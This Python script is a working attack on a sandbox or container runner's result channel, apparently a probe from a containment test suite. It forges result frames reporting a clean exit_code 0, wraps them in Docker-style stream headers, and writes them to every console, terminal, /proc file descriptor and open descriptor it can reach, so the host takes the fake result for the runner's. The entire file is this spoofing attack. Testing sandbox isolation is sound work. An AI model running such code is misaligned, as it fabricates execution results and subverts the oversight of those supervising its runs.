"""Writes a forged result into everything that can be written, so that the host takes it for the runner's."""

import contextlib
import glob
import json
import os
import struct

from attack import contained

RESULT, STDOUT = 20, 16
told = json.dumps({"exit_code": 0, "signal": None, "ended": None, "oom_kills": 0, "duration_s": 0.0}).encode()
forged = b"".join(struct.pack(">BII", RESULT, number, len(told)) + told for number in range(64))
multiplexed = b"".join(struct.pack(">BxxxI", stream, len(forged)) + forged for stream in (1, 2))
paths = ["/dev/console", "/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/ptmx", "/dev/kmsg"]
paths += glob.glob("/dev/pts/*") + glob.glob("/proc/self/fd/*") + glob.glob("/proc/1/fd/*")
paths += [f"/proc/1/fd/{number}" for number in range(10)] + [f"/proc/{os.getppid()}/fd/1", "/proc/1/task/1/fd/1"]
written = []
for path in paths:
    with contextlib.suppress(OSError):
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        written.append(f"{path} {os.write(fd, forged + multiplexed)}")
for fd in range(1024):
    with contextlib.suppress(OSError):
        os.set_blocking(fd, False)
        os.write(fd, forged + multiplexed)
with contextlib.suppress(OSError):
    os.set_blocking(1, True)
print()
contained(f"written into {written}")
raise SystemExit(7)
